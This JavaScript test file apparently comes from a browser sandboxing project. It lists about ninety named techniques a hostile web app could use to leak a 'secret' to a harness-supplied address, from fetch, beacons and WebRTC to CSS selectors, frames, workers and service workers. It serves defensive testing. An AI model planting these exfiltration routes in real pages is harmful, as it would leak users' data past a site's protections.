// What a hostile app tries, by name. Each gets where to tell: `url` and `host` name the try, `port`
// is its own. An attack may throw: that is how a browser refuses. What counts is what arrives.
const body = () => document.body;
const put = (html) => body().insertAdjacentHTML('beforeend', html);
const element = (name, attributes) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  body().append(made);
  return made;
};
const link = (attributes) => document.head.append(element('link', attributes));
const later = (milliseconds) => new Promise((done) => { setTimeout(done, milliseconds); });
const page = (code) => `<!doctype html><meta charset=utf-8><body><script>${code}<\/script>`;
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const frame = (attributes) => new Promise((done) => {
  const made = document.createElement('iframe');
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  made.onload = () => done(made);
  body().append(made);
});
const fetching = (url) => `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).catch(() => {});`;

window.attacks = {
  // Requests.
  'fetch': ({ url }) => fetch(`${url}/?secret`),
  'fetch-no-cors': ({ url }) => fetch(`${url}/?secret`, { mode: 'no-cors' }),
  'fetch-post': ({ url }) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'fetch-keepalive': ({ url }) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
  'fetch-later': ({ url }) => fetchLater(`${url}/later`, { activateAfter: 0 }),
  'xhr': ({ url }) => new Promise((done) => {
    const xhr = new XMLHttpRequest();
    xhr.onloadend = done;
    xhr.open('GET', `${url}/?secret`);
    xhr.send();
  }),
  'beacon': ({ url }) => navigator.sendBeacon(url, 'secret'),
  'websocket': ({ host }) => new Promise((done) => { new WebSocket(`ws://${host}/`).onclose = done; }),
  'event-source': ({ url }) => new Promise((done) => { new EventSource(url).onerror = done; }),
  'web-transport': ({ port }) => new WebTransport(`https://127.0.0.1:${port}/`).ready,
  'webrtc-stun': ({ port }) => gather({ urls: `stun:127.0.0.1:${port}` }),
  'webrtc-turn': ({ port }) => gather({ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'secret', credential: 'secret' }),
  // Elements.
  'image': ({ url }) => { new Image().src = `${url}/?secret`; },
  'image-set': ({ url }) => element('img', { srcset: `${url}/1x 1x, ${url}/2x 2x` }),
  'picture': ({ url }) => put(`<picture><source srcset="${url}/source"><img></picture>`),
  'svg-image': ({ url }) => put(`<svg><image href="${url}/svg"/></svg>`),
  'input-image': ({ url }) => element('input', { type: 'image', src: `${url}/input` }),
  'script': ({ url }) => { const script = document.createElement('script'); script.src = `${url}/x.js`; body().append(script); },
  'module': ({ url }) => import(`${url}/x.js`),
  'style-sheet': ({ url }) => link({ rel: 'stylesheet', href: `${url}/x.css` }),
  'css-import': ({ url }) => put(`<style>@import url("${url}/x.css");</style>`),
  'css-image': ({ url }) => put(`<div style="width: 9px; height: 9px; background: url('${url}/css')">x</div>`),
  'css-cursor': ({ url }) => put(`<div style="cursor: url('${url}/cursor'), auto; list-style-image: url('${url}/list')"><li>x</div>`),
  'css-font': ({ url }) => put(`<style>@font-face { font-family: f; src: url('${url}/font'); }</style><p style="font-family: f">x`),
  'font-face': ({ url }) => new FontFace('g', `url('${url}/font')`).load(),
  'css-selector': ({ url }) => put(`<input value="secret"><style>input[value^=s] { background: url('${url}/s'); }</style>`),
  'video': ({ url }) => element('video', { src: `${url}/video`, preload: 'auto' }),
  'video-poster': ({ url }) => element('video', { poster: `${url}/poster` }),
  'audio': ({ url }) => { new Audio(`${url}/audio`).load(); },
  'track': ({ url }) => {
    put(`<video crossorigin=anonymous><track default kind=subtitles src="${url}/track"></video>`);
    document.querySelector('track').track.mode = 'showing';
  },
  'object': ({ url }) => element('object', { data: `${url}/object` }),
  'embed': ({ url }) => element('embed', { src: `${url}/embed` }),
  'icon': ({ url }) => link({ rel: 'icon', href: `${url}/icon` }),
  // Hints.
  'preload': ({ url }) => link({ rel: 'preload', as: 'fetch', crossorigin: '', href: `${url}/preload` }),
  'module-preload': ({ url }) => link({ rel: 'modulepreload', href: `${url}/x.js` }),
  'prefetch': ({ url }) => link({ rel: 'prefetch', href: `${url}/prefetch` }),
  'preconnect': ({ url }) => link({ rel: 'preconnect', href: url }),
  'dns-prefetch': ({ url }) => link({ rel: 'dns-prefetch', href: url }),
  'speculation-prefetch': ({ url }) => speculate('prefetch', url),
  'speculation-prerender': ({ url }) => speculate('prerender', url),
  // Leaving.
  'navigate': ({ url }) => { location.href = `${url}/?secret`; },
  'navigate-replace': ({ url }) => { location.replace(`${url}/?secret`); },
  'navigation-api': ({ url }) => navigation.navigate(`${url}/?secret`).finished,
  'link-click': ({ url }) => element('a', { href: `${url}/?secret` }).click(),
  'link-click-new-tab': ({ url }) => element('a', { href: `${url}/?secret`, target: '_blank', rel: 'noopener' }).click(),
  'link-ping': ({ url }) => element('a', { href: '#here', ping: `${url}/ping` }).click(),
  'download': ({ url }) => element('a', { href: `${url}/?secret`, download: 'x' }).click(),
  'form-get': ({ url }) => { put(`<form action="${url}/form"><input name=a value=secret></form>`); document.forms[0].submit(); },
  'form-post': ({ url }) => { put(`<form method=post action="${url}/form"><input name=a value=secret></form>`); document.forms[0].submit(); },
  'form-new-tab': ({ url }) => { put(`<form target=_blank action="${url}/form"><button formaction="${url}/button">x</form>`); document.forms[0].requestSubmit(document.querySelector('button')); },
  'meta-refresh': ({ url }) => document.head.append(element('meta', { 'http-equiv': 'refresh', 'content': `0;url=${url}/?secret` })),
  'window-open': ({ url }) => { window.open(`${url}/?secret`); },
  'window-open-named': ({ url }) => { window.open('', 'other'); window.open(`${url}/?secret`, 'other'); },
  'window-open-then-navigate': ({ url }) => { window.open('about:blank').location = `${url}/?secret`; },
  // Other documents and workers of this origin, where a policy might be forgotten.
  'about-blank-window': ({ url }) => { window.open('about:blank').fetch(url, { mode: 'no-cors' }); },
  'blob-window': ({ url }) => { window.open(blob(page(fetching(url)), 'text/html')); },
  'missing-page-window': ({ url }) => inWindow('/no-such-page', url),
  'long-url-window': ({ url }) => inWindow(`/?${'a'.repeat(20_000)}`, url),
  'own-file-window': ({ url }) => inWindow('/module.js', url),
  'kith-file-window': ({ url }) => inWindow('/.kith/kith.js', url),
  'socket-address-window': ({ url }) => inWindow('/.kith/api', url),
  'about-blank-frame': async ({ url }) => { (await frame({ src: 'about:blank' })).contentWindow.fetch(url, { mode: 'no-cors' }); },
  'source-frame': ({ url }) => frame({ srcdoc: page(fetching(url)) }),
  'source-frame-image': ({ url }) => frame({ srcdoc: `<img src="${url}/?secret">` }),
  'blob-frame': ({ url }) => frame({ src: blob(page(fetching(url)), 'text/html') }),
  'data-frame': ({ url }) => frame({ src: `data:text/html,${encodeURIComponent(page(fetching(url)))}` }),
  'script-frame': ({ url }) => frame({ src: `javascript:${JSON.stringify(page(fetching(url)))}` }),
  'sandboxed-frame': ({ url }) => frame({ sandbox: 'allow-scripts', srcdoc: page(fetching(url)) }),
  'own-file-frame': async ({ url }) => { (await frame({ src: '/module.js' })).contentWindow.fetch(url, { mode: 'no-cors' }); },
  'missing-page-frame': async ({ url }) => { (await frame({ src: '/no-such-page' })).contentWindow.fetch(url, { mode: 'no-cors' }); },
  'frame': ({ url }) => frame({ src: `${url}/frame` }),
  'frame-navigates': async ({ url }) => { (await frame({ src: 'about:blank' })).contentWindow.location = `${url}/frame`; },
  'worker': ({ url }) => { new Worker('/worker.js').postMessage(fetching(url)); },
  'worker-import': ({ url }) => { new Worker('/worker.js').postMessage(`importScripts(${JSON.stringify(`${url}/x.js`)})`); },
  'worker-websocket': ({ host }) => { new Worker('/worker.js').postMessage(`new WebSocket('ws://${host}/')`); },
  'blob-worker': ({ url }) => { new Worker(blob(fetching(url), 'text/javascript')); },
  'data-worker': ({ url }) => { new Worker(`data:text/javascript,${encodeURIComponent(fetching(url))}`); },
  'worker-in-worker': ({ url }) => { new Worker('/worker.js').postMessage(`new Worker('/worker.js').postMessage(${JSON.stringify(fetching(url))})`); },
  'shared-worker': ({ url }) => { const { port } = new SharedWorker('/shared-worker.js'); port.start(); port.postMessage(fetching(url)); },
  'blob-shared-worker': ({ url }) => { new SharedWorker(blob(fetching(url), 'text/javascript')); },
  'worklet': ({ url }) => CSS.paintWorklet ? CSS.paintWorklet.addModule(`${url}/x.js`) : new AudioContext().audioWorklet.addModule(`${url}/x.js`),
  'service-worker': async ({ url }) => {
    await navigator.serviceWorker.register('/service-worker.js');
    await navigator.serviceWorker.ready;
    await frame({ src: `/?made-up=${encodeURIComponent(url)}` });
  },
};

async function gather(server) {
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
}

function speculate(kind, url) {
  const script = document.createElement('script');
  script.type = 'speculationrules';
  script.textContent = JSON.stringify({ [kind]: [{ source: 'list', urls: [`${url}/speculated`], eagerness: 'immediate' }] });
  document.head.append(script);
}

async function inWindow(path, url) {
  const opened = window.open(path);
  // The new document replaces an empty one, on this origin or on none.
  for (;;) {
    await later(10);
    if (opened.location.href !== 'about:blank' && opened.document.readyState === 'complete') break;
  }
  opened.fetch(url, { mode: 'no-cors' });
}
